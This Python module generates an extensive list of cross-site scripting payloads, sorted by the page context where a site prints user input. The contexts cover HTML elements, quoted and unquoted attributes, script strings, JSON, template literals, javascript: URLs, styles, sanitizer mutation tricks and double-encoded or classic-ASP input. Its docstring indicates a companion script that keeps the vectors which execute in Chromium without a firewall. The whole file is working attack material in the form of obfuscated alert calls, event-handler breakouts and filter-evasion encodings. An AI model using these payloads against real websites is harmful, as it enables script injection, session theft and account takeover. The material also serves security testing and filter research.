"""Scripting vectors by the place in a page where a site prints a value: what is printed, and what breaks out of it.

A vector is (context, value). CONTEXTS says how the page prints the value; try_xss.py counts a vector only when it runs in
Chromium without the firewall, so nothing here has to be right about browsers."""

# context: (page with {} for the value, how the site reads the value: see site_text() in try_xss.py)
CONTEXTS = {
    "element": ("<p>Results for {}: none.</p>", "plain"),
    "textarea": ("<textarea name=a>{}</textarea>", "plain"),
    "title": ("<title>{} - shop</title><p>x", "plain"),
    "comment": ("<!-- last search: {} -->\n<p>x", "plain"),
    "double-quoted": ('<input type="text" name="q" value="{}"> <b>x</b>', "plain"),
    "single-quoted": ("<input type='text' name='q' value='{}'> <b>x</b>", "plain"),
    "unquoted": ("<input type=text name=q value={}> <b>x</b>", "plain"),
    "link": ('<a href="{}">back</a>', "plain"),
    "frame": ('<iframe src="{}"></iframe>', "plain"),
    "form-action": ("<form action='{}'><input type=submit></form>", "plain"),
    "script-single": ("<script>var first = '{}'; var second = 'x';</script>", "plain"),
    "script-double": ('<script>var first = "{}"; var second = "x";</script>', "plain"),
    "script-call": ("<script>function show(a, b) {{}}\nshow('{}', 'x');</script>", "plain"),
    "script-template": ("<script>var first = `a {} b`;</script>", "plain"),
    "script-json": ('<script>var data = {{"name": "{}", "count": 1}};</script>', "plain"),
    "script-escaped": ("<script>var first = '{}'; var second = 'x';</script>", "backslash before quotes"),
    "script-written": ("<p id=o></p><script>document.getElementById('o').innerHTML = '{}';</script>", "plain"),
    "style": ("<style>p {{ background: {}; }}</style><p>x", "plain"),
    "style-attribute": ('<p style="color: {}">x</p>', "plain"),
    "event-attribute": ("<a href=# onclick=\"show('{}')\">x</a><script>function show() {{}}</script>", "plain"),
    "script-url": ("<a href=\"javascript:show('{}')\">x</a><script>function show() {{}}</script>", "plain"),
    "mutation": ("<div id=o></div><div id=p></div>", "through innerHTML twice"),
    "decoded-twice": ("<p>{}</p>", "percent-decoded twice"),
    "classic-asp": ("<p>{}</p>", "as classic ASP"),
    "nameless": ("<p>{}</p>", "the whole query"),
}

# Values that stand inside a string of a script.
SCRIPT_STRINGS = {name for name in CONTEXTS if name.startswith("script-") and name != "script-written"} | {"event-attribute"}

# Expressions that call alert, without double quotes (a backquote or a single quote where they need one).
EXPRESSIONS = [
    "alert(1)", "alert`1`", "(alert)(1)", "window.alert(1)", "self['alert'](1)", "window['al'+'ert'](1)", "[1].map(alert)",
    "[1].find(alert)", "'1'.replace(/1/,alert)", "'1'.replace(/./,alert)", "eval('al'+'ert(1)')", "eval('alert(1)')",
    "eval(atob('YWxlcnQoMSk='))", "Function('alert(1)')()", "new Function('alert(1)')()", "setTimeout('alert(1)')",
    "setTimeout(alert,1)", "Reflect.apply(alert,null,[1])", "alert.call(null,1)", "alert.apply(null,[1])", "alert?.(1)",
    "\\u0061lert(1)", "(a=alert,a(1))", "($=alert,$(1))", "(_=>alert(1))()", "(function(){alert(1)})()",
    "globalThis['alert'](1)", "frames['alert'](1)", "self[/al/.source+/ert/.source](1)", "[]['filter']['constructor']('alert(1)')()",
    "Set.constructor`alert\\x281\\x29```", "import('data:text/javascript,alert(1)')", "Array.from([1],alert)",
    "Promise.resolve(1).then(alert)", "alert(document.domain)", "confirm(1)", "prompt(document.cookie)", "print()",
    "(location='javascript:alert(1)')", "(document.location.href='javascript:alert(1)')", "[8].some(confirm)",
    "alert(/x/.source)", "alert((1))", "self[`al`+`ert`]`1`", "window[8680439..toString(30)](1)", "void alert(1)", "typeof alert(1)",
    "!alert(1)", "delete alert(1)", "await_=alert(1)", "alert(String.fromCharCode(88))", "Reflect.get(self,'alert')(1)",
    "this['ale'+'rt'](1)", "Array.of(1).forEach(alert)",
]
STATEMENTS = [
    "{x=alert;x(1)}", "if(1)alert(1)", "for(;;){alert(1);break}", "throw onerror=alert,1",
    "onerror=alert;throw 1", "try{alert(1)}catch(e){}", "var x=alert;x(1)", "let y=alert;y`1`", "location='javascript:alert(1)'",
    "location.href='javascript:alert(1)'", "do alert(1);while(0)", "with(window)alert(1)", "function z(){alert(1)}z()",
    "a:alert(1)", "switch(1){case 1:alert(1)}", "while(alert(1))break",
    "toString=alert;window+''", "valueOf=alert;window+1", "class A{static{alert(1)}}", "for(i of[1])alert(i)",
    "document.write('<img src=x onerror=alert(1)>')", "new class{constructor(){alert(1)}}", "self.onerror=alert;throw 1",
]
WRITTEN_EXPRESSIONS = ["alert(1)", "alert`1`", "[1].map(alert)", "window['al'+'ert'](1)", "eval(atob('YWxlcnQoMSk='))",
                       "location='javascript:alert(1)'"]

# Markup that runs by itself or when the page's user clicks, moves, types (try_xss.py fires every handler once).
BLANKS = [" ", "/", "\t", "\n", "\f", "\r", " / ", "//", "/x/", " x ", " x=1 ", "/x='>'/", ' x=">" ']
TAGS = [("img", "src=x onerror"), ("svg", "onload"), ("video", "src=x onerror"), ("audio", "src=x onerror"), ("body", "onload"),
        ("input", "autofocus onfocus"), ("details", "open ontoggle"), ("iframe", "onload"), ("video", "onloadstart"),
        ("marquee", "onstart"), ("select", "autofocus onfocus"), ("textarea", "autofocus onfocus"), ("button", "onclick"),
        ("a", "href=# onclick"), ("div", "onmouseover"), ("x", "onclick"), ("x", "tabindex=1 autofocus onfocus"),
        ("img", "src=x: onerror"), ("image", "src=x onerror"), ("link", "rel=stylesheet href=data:,x onload"), ("object", "data=x: onerror"),
        ("style", "onload"), ("script", "src=x: onerror"), ("form", "onclick"), ("keygen", "autofocus onfocus"),
        ("p", "onpointerenter"), ("p", "onwheel"), ("h1", "onauxclick"), ("xss", "oncontentvisibilityautostatechange"),
        ("x", "onbeforeinput"), ("x", "onanimationstart"), ("x", "ontransitionend"), ("x", "onscrollsnapchange"), ("x", "onbeforematch"),
        ("video", "oncanplay"), ("source", "onerror"), ("track", "onerror"), ("x-y", "onpaste"), ("font", "oncopy"), ("bdo", "ondrag"),
        ("dialog", "open onclose"), ("dialog", "onbeforetoggle"), ("noscript", "onclick"), ("math", "onclick"), ("animate", "onbegin"),
        ("tr", "onclick"), ("\u00e9", "onclick")]
VALUES = ["alert(1)", '"alert(1)"', "'alert(1)'", "alert`1`", '"&#97;lert(1)"', "'&#x61;lert&lpar;1&rpar;'", "&#0000097lert(1)",
          "\"'1'.replace(/1/,alert)\"", '"$=alert,$(1)"', '"(alert)(1)"', '"[1].map(alert)"', "' alert(1)'", "' \n alert(1)'",
          '"//\nalert(1)"', '"/**/alert(1)"', "window.alert(1)", "1;alert(1)", "!alert(1)", "+alert(1)", "-alert(1)", "~alert(1)",
          "_=alert,_(1)", "{alert(1)}", "''+alert(1)", ";alert(1)", "'\"\",alert(1)'", "javascript:alert(1)", "x:alert(1)",
          "'\\u0061lert(1)'", "eval('\\x61lert(1)')", "1?alert(1):1", "\u0061lert(1)", "void(alert(1))", "(alert(1))", "\"`${alert(1)}`\""]
MARKUP = [
    "<script>alert(1)</script>", "<script >alert(1)</script >", "<script/x>alert(1)</script>", "<script\n>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>", "<script\t>alert(1)</script\t>", "<script x>alert(1)</script x>", "<script src=data:,alert(1)></script>",
    "<script src='data:text/javascript,alert(1)'></script>", "<script type=module>alert(1)</script>", "<script type=text/javascript>alert(1)</script>",
    "<script defer>alert(1)</script>", "<script>/*</script><script>*/alert(1)</script>", "<script>alert`1`</script>",
    "<script>\nalert(1)\n//", "<script>alert(1)//", "<script>alert(1)<!--", "<svg><script>alert(1)</script>", "<svg><script>alert&#40;1&#41;</script>",
    "<svg><script>alert&lpar;1)</script>", "<svg><script href=data:,alert(1) />", "<svg><script xlink:href=data:,alert(1) />",
    "<script/src=data:,alert(1)>", "<script/ src=data:,alert(1)></script>", "<script x='>' src=data:,alert(1)></script>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe srcdoc=&lt;script&gt;parent.alert(1)&lt;/script&gt;>",
    "<iframe src=javascript:alert(1)>", "<iframe src='javascript:parent.alert(1)'>", "<iframe src=JaVaScRiPt:parent.alert(1)>",
    "<iframe src=\" javascript:parent.alert(1)\">", "<iframe src='java\nscript:parent.alert(1)'>", "<iframe src='java\tscript:parent.alert(1)'>",
    "<iframe src=java&#10;script:parent.alert(1)>", "<iframe src=java&Tab;script:parent.alert(1)>", "<iframe src=java&NewLine;script:parent.alert(1)>",
    "<iframe src=javascript&colon;parent.alert(1)>", "<iframe src=&#106;avascript:parent.alert(1)>", "<iframe src='&#1;javascript:parent.alert(1)'>",
    "<iframe src=javascript:parent.alert%281%29>", "<iframe src='javascript:\"<script>parent.alert(1)</script>\"'>",
    "<iframe/src=javascript:parent.alert(1)>", "<embed src=javascript:alert(1)>", "<object data=javascript:alert(1)>",
    "<object data='java\nscript:parent.alert(1)'>", "<a href=javascript:alert(1)>x</a>", "<a href='javascript:alert(1)'>x", "<a href=\"\x01javascript:alert(1)\">x",
    "<a href=javascript&colon;alert(1)>x", "<a href=&#x6a;avascript:alert(1)>x", "<a href=javascript:void(0);alert(1)>x", "<a href=javascript:/**/alert(1)>x",
    "<a href=javascript://%0aalert(1)>x", "<a href='javascript:[1].map(alert)'>x", "<a href=javascript:(alert)(1)>x", "<a href=javascript:1;alert(1)>x",
    "<a href=javascript:{alert(1)}>x", "<a href=javascript:!alert(1)>x", "<a href=javascript:`${alert(1)}`>x", "<a/href=javascript:alert(1)>x",
    "<a\x0chref=javascript:alert(1)>x", "<a x=1 href=javascript:alert(1)>x", "<a target=_self href=javascript:alert(1)>x", "<a href = javascript:alert(1)>x",
    "<a href=' &#1; javascript:alert(1)'>x", "<a href=java\rscript:alert(1)>x", "<a href='j\na\nv\na\ns\nc\nr\ni\np\nt:alert(1)'>x",
    "<form action=javascript:alert(1)><input type=submit>", "<form><button formaction=javascript:alert(1)>x", "<form><input type=submit formaction=javascript:alert(1)>",
    "<form><input type=image src=x formaction=javascript:alert(1)>", "<form id=f></form><button form=f formaction=javascript:alert(1)>x", "<isindex action=javascript:alert(1)>",
    "<map><area href=javascript:alert(1)>x</map>", "<svg><a href=javascript:alert(1)><text y=20>x", "<svg><a xlink:href=javascript:alert(1)><text y=20>x",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>", "<svg><a xlink:href=#><set attributeName=xlink:href to=javascript:alert(1) /><text y=20>x",
    "<svg><a><animate attributeName=href to=javascript:alert(1) from=x dur=1s fill=freeze /><text y=20>x", "<svg><a><animate attributeName=href values='x;javascript:alert(1)' keyTimes=0;0 /><text y=20>x",
    "<math href=javascript:alert(1)>x</math>", "<math><a xlink:href=javascript:alert(1)>x", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg\nonload=alert(1)>", "<svg onload=alert(1)//",
    "<svg onload=alert(1)<!--", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributename=x dur=1s>", "<svg><image href=x onerror=alert(1)>",
    "<svg><g onclick=alert(1)><text y=20>x", "<svg><title><img src=x onerror=alert(1)>", "<svg><desc><svg onload=alert(1)>", "<svg><foreignObject><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>", "<math><mi><svg onload=alert(1)>", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<title><a title='</title><img src=x onerror=alert(1)>'>", "<style><a title='</style><img src=x onerror=alert(1)>'>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)>-->", "<!---><img src=x onerror=alert(1)>-->", "<!--x--!><img src=x onerror=alert(1)>",
    "<!-- --><img src=x onerror=alert(1)>", "<!x><img src=x onerror=alert(1)>", "<?x><img src=x onerror=alert(1)>", "</x><img src=x onerror=alert(1)>", "<b><<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)", "<img src=x onerror='alert(1)'x", "<img/src/onerror=alert(1)>", "<img src onerror=alert(1)>", "<img src=x onerror = alert(1)>", "<img src=x onerror\n=\nalert(1)>",
    "<img src='x'onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x alt='>' onerror=alert(1)>", "<img src=x alt=\"<b>\" onerror=alert(1)>", "<img alt='<' src=x onerror=alert(1)>",
    "<IMG SRC=X ONERROR=alert(1)>", "<iMg SrC=x oNeRrOr=alert(1)>", "<img ='x' src=x onerror=alert(1)>", "<img '' src=x onerror=alert(1)>", "<img \" src=x onerror=alert(1) \">", "<img ` src=x onerror=alert(1)>",
    "<img src=x:x onerror=alert(1) onload=x>", "<img src=1 href=1 onerror=alert(1)>", "<img srcset=x onerror=alert(1)>", "<picture><source srcset=x><img onerror=alert(1)>", "<img src=x id=a onerror=alert(id)>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAD/ACwAAAAAAQABAAACADs= onload=alert(1)>", "<video><source onerror=alert(1)>", "<video src=x onerror=alert(1)>", "<audio src onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<input onblur=alert(1) autofocus><input autofocus>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x", "<body onpageshow=alert(1)>", "<body onload=alert(1)>",
    "<body onresize=alert(1)>", "<body onhashchange=alert(1)>", "<body onscroll=alert(1)>", "<frameset onload=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=javascript:/a/-alert(1)//><a href=x>x",
    "<link rel=stylesheet href=data:text/css, onload=alert(1)>", "<style onload=alert(1)></style>", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>x", "<table background=javascript:alert(1)>",
    "<button onclick=alert(1)>x", "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=alert(1)>y", "<x contenteditable onfocus=alert(1) autofocus>x", "<x tabindex=1 onfocusin=alert(1) autofocus>x", "<keygen autofocus onfocus=alert(1)>",
    "<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>", "<p onmouseover=alert(1)>x", "<p onmouseenter=alert(1)>x", "<p ondblclick=alert(1)>x", "<p oncontextmenu=alert(1)>x", "<p onkeydown=alert(1)>x",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>", "<object data=x onerror=alert(1)>x</object>", "<embed src=data:text/html,x onload=alert(1)>",
    "<p style=color:red onclick=alert(1)>x", "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>", "<b/onclick=alert(1)>x", "<b/ /onclick=alert(1)>x", "<b\x0conclick=alert(1)>x", "<b x=y/onclick=alert(1) onclick=alert(1)>x",
]
# For sanitizers' output that is parsed once more.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><style><img src=x onerror=alert(1)></style>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>",
    "<img src=x onerror=alert(1)>", "<svg><p><style><img src='</style><img src=x onerror=alert(1)//'>", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<table><img src=x onerror=alert(1)>", "<svg><title><style><img src=x onerror=alert(1)></style>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml>", "<b><p title=\"<img src=x onerror=alert(1)>\"><img src=x onerror=alert(1)>",
]


def _attribute_breakouts(quote):
    for expression in EXPRESSIONS:
        if quote not in expression:
            yield f"{quote} autofocus onfocus={quote}{expression}"
    for blank in BLANKS:
        if not (quote in blank or quote == "" and (blank[0] == "/" or ">" in blank)):
            yield f"x{quote}{blank}autofocus{blank}onfocus=alert(1){'' if quote == '' else ' x=' + quote}"
    for value in VALUES:
        if quote == '"' or quote not in value:
            yield f"{quote} autofocus onfocus={value} "
    if quote:
        yield from (f"{quote}autofocus onfocus=alert(1) ", f"{quote}onclick=alert(1)//", f"{quote}/onclick={quote}alert(1)", f"{quote} onclick\n=alert(1) ")
    for name in ("onclick", "onmouseover", "onpointerdown", "oninput", "onkeyup", "onwheel", "onsearch", "onbeforetoggle", "onpaste", "onselect",
                 "ontransitionrun", "onscrollsnapchange", "oncontentvisibilityautostatechange", "ongotpointercapture", "onfocusin"):
        yield f"1{quote} {name}=alert(1) x={quote}"
    yield from (f"{quote} type=image src=x onerror=alert(1) ", f"{quote} type=image src=x: onerror={quote}alert(1)", f"{quote} style=color:red onclick=alert(1) a={quote}",
                f"{quote} accesskey=x onclick=alert(1) x={quote}", f"{quote} type=submit formaction=javascript:alert(1) form=f><form id=f></form>",
                f"{quote} ONCLICK=alert(1) ", f"{quote} oNcLiCk=alert(1) x={quote}")
    for markup in MARKUP[:12] + MARKUP[26:32] + ["<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<b onclick=alert(1)>x"]:
        if not (quote and quote in markup):
            yield f"{quote}>{markup}"


def _urls():
    for expression in EXPRESSIONS:
        yield f"javascript:{expression}"
    for statement in STATEMENTS:
        yield f"javascript:{statement}"
    for scheme in ("JaVaScRiPt:", " javascript:", "\x01javascript:", "\x1fjavascript:", "\tjavascript:", "java\tscript:", "java\nscript:", "java\rscript:",
                   "javascript\t:", "javascript\n:", "javascript&colon;", "javascript&#58;", "javascript&#x3a;", "java&Tab;script:", "java&NewLine;script:",
                   "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "&#1;javascript:", "&Tab;javascript:", "\r\n javascript:", "j\na\tv\ra\nscript:",
                   "javascript:/**/", "javascript://%0a", "javascript://x\n", "javascript:1;", "javascript:1,", "javascript:void ", "javascript:{}", "javascript:'',", "javascript:%20",
                   "javascript:/*x*/", "javascript:\n", "javascript:;", "javascript:(", "javascript:[][0]||", "javascript:x:", "javascript:`x`,"):
        for call in ("alert(1)", "window['al'+'ert'](1)", "[1].map(alert)"):
            yield scheme + call + (")" if scheme.endswith("(") else "")
    yield from ("javascript:alert%281%29", "javascript:%61lert(1)", "javascript:\\u0061lert(1)", "javascript:\\u{61}lert(1)", "javascript:alert&lpar;1&rpar;", "javascript:alert&#40;1)",
                "javascript://example.com/%0aalert(1)", "javascript:`${alert(1)}`", "javascript:alert(1)//http://x", "javascript:a\u006cert(1)",
                "javascript:/*-->]]>%>?></object></script></title></textarea></noscript></style></xmp>'-/\"/-alert(1)//><img src=1 onerror=alert(1)>", "data:text/html,<script>parent.alert(1)</script>")


def _script_breakouts(quote, more_closers=()):
    openers = ["-", "+", "*", "/", "%", "|", "||", "&&", "^", "<", ">", "==", "===", "!=", "?", ",", ";", "\n", "\n;", " - ", "\t+\t", ";\n", "/**/-", " in ", " instanceof ", "??", "**", ">>>", "<=", "\r", "\u2028", ";;", "; "]
    for opener in openers + list(more_closers):
        closers = ["//", f"{opener.strip() or '+'}{quote}"] if opener not in ("\n", "\r", "\u2028", ";\n", "\n;", ";;", "; ") else ["//", f";{quote}"]
        if opener == "?":
            closers = ["//", f":{quote}"]
        if opener in more_closers:
            closers = ["//"]
        for closer in closers:
            yield f"{quote}{opener}alert(1){closer}"
    for expression in EXPRESSIONS:
        if quote in expression:
            expression = expression.replace(quote, "`" if quote != "`" else "'")
        yield f"{quote}-{expression}-{quote}"
        yield f"{quote};{expression}//"
        yield f"x{quote}+{expression}+{quote}y"
    for statement in STATEMENTS:
        if quote not in statement:
            yield f"{quote};{statement}//"
            yield f"abc{quote};{statement};{quote}"
    for written in WRITTEN_EXPRESSIONS:
        if quote not in written:
            yield from (f"{quote};{written};x={quote}", f"{quote};{written}/*", f"{quote}; {written} // x", f"{quote};{written}<!--", f"{quote};{written}\n//", f"{quote};{written}</script>")
    yield from ("</script><script>alert(1)</script>", "</script><svg onload=alert(1)>", "</script x><img src=x onerror=alert(1)>", "</ScRiPt\n><script>alert(1)//", "</script/><b onclick=alert(1)>x")


def _encoded():
    for markup in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<b onclick=alert(1)>x", "<a href=javascript:alert(1)>x", "<img src=x onerror=\"'1'.replace(/1/,alert)\">"):
        percent = "".join(f"%{ord(c):02x}" if c in "<>()='\"" else c for c in markup)
        yield "decoded-twice", percent
        yield "decoded-twice", "".join(f"%{ord(c):02X}" for c in markup)
        yield "classic-asp", "".join(f"%u{ord(c):04x}" if c in "<>='\"" else c for c in markup)
        yield "classic-asp", "".join(f"%u{ord(c):04X}" for c in markup)
        yield "classic-asp", markup.replace("r", "%r", 1).replace("o", "%o", 1).replace("l", "%l", 1)
        yield "classic-asp", markup[0] + "%" + markup[1:]
        yield "nameless", markup
        yield "nameless", "x" + markup
        if "script" in markup and "href" not in markup:
            continue
        yield "script-written", "".join(f"\\x{ord(c):02x}" if c in "<>'\"" else c for c in markup)
        yield "script-written", "".join(f"\\u{ord(c):04x}" if c in "<>'\"" else c for c in markup)
        yield "script-written", "".join(f"\\u{{{ord(c):x}}}" if c in "<>'\"" else c for c in markup)
        yield "script-written", "".join(f"\\{ord(c):o}" if c in "<>'\"" else c for c in markup)
        yield "script-written", "".join(f"\\x{ord(c):02x}" for c in markup)
        yield "script-written", "\\x3c" + markup[1:].replace("'", "\\x27").replace("n=", "n\\x3d")


def vectors():
    """(context, value) pairs, none twice."""
    found = {}

    def add(context, values):
        for value in values:
            found[(context, value)] = None

    add("element", MARKUP)
    for tag, event in TAGS:
        add("element", [f"<{tag} {event}=alert(1)>x</{tag}>", f"<{tag}/{event.replace(' ', '/') if '=' not in event else event}=alert(1)>"])
    for blank in BLANKS:
        add("element", [f"<img{blank}src=x{'' if blank[0] != '/' else ' '}{blank}onerror=alert(1)>", f"<svg{blank}onload=alert(1)>"])
    add("element", [f"<img src=x onerror={value}>" for value in VALUES])
    add("element", [f'<b onclick="{expression}">x' for expression in EXPRESSIONS])
    add("element", [f'<svg onload="{statement}">' for statement in STATEMENTS])
    short = MARKUP[:3] + ["<img src=x onerror=alert(1)>", "<svg onload=alert`1`>", "<b onclick=alert(1)>x", "<svg/onload=alert(1)>"]
    for context, ends in {"textarea": ["</textarea>", "</TextArea x>", "</textarea\n>", "</textarea/>"], "title": ["</title>", "</title\t>", "</TITLE x=y>"],
                          "comment": ["-->", "--!>", ">"], "style": ["</style>", "}</style>", "</style x>", "red}</style\n>"]}.items():
        add(context, [end + markup for end in ends for markup in short])
    add("style-attribute", [f'"{blank}onclick=alert(1) ' for blank in (" ", "/", "\t", "", "\f")] + [f'red;"><{markup[1:]}' for markup in short])
    for context, quote in (("double-quoted", '"'), ("single-quoted", "'"), ("unquoted", "")):
        add(context, _attribute_breakouts(quote))
    for context in ("link", "frame", "form-action"):
        add(context, _urls() if context == "link" else [url for index, url in enumerate(_urls()) if index % 3 == (context == "frame")])
    add("script-single", _script_breakouts("'"))
    add("script-double", _script_breakouts('"'))
    add("script-call", _script_breakouts("'", ("),", ");", ")-", ")+", ")\n")))
    add("script-json", _script_breakouts('"', ("};", "}\n", "},", '}-')))
    add("script-template", [f"${{{expression}}}" for expression in EXPRESSIONS] + ["x${alert(1)}y", "${ alert(1) }", "${\nalert(1)\n}", "`;alert(1)//", "`-alert(1)-`", "`+alert(1)+`", "${`${alert(1)}`}", "${(_=>{alert(1)})()}",
                            "`;alert(1);`", "`\nalert(1)//", "${'a'.replace(/a/,alert)}", "`,alert(1),`", "`?alert(1):`", "${[1].map(alert)}", "${x=alert,x(1)}", "${alert`1`}"])
    add("script-escaped", ["\\" + breakout for breakout in _script_breakouts("'") if breakout.startswith("'") and "'" not in breakout[1:] and '"' not in breakout])
    for written in WRITTEN_EXPRESSIONS:
        if "'" not in written:
            add("event-attribute", [f"');{written}//", f"'-{written}-'", f"');{written};('", f"&#39;);{written}//", f"&apos;-{written}-&apos;", f"&#x27;);{written};(&#x27;", f"',{written},'", f"'+{written}+'", f"&#39-{written}-&#39", f"')-{written}//"])
            add("script-url", [f"');{written}//", f"'-{written}-'", f"%27-{written}-%27", f"%27);{written}//", f"%27%29;{written}//", f"&#39;-{written}-&#39;", f"&#x25;27-{written}-&#x25;27", f"'+{written}+'", f"',{written},'"])
    add("mutation", MUTATIONS)
    for context, value in _encoded():
        add(context, [value])
    return list(found)


if __name__ == "__main__":
    print(len(vectors()))
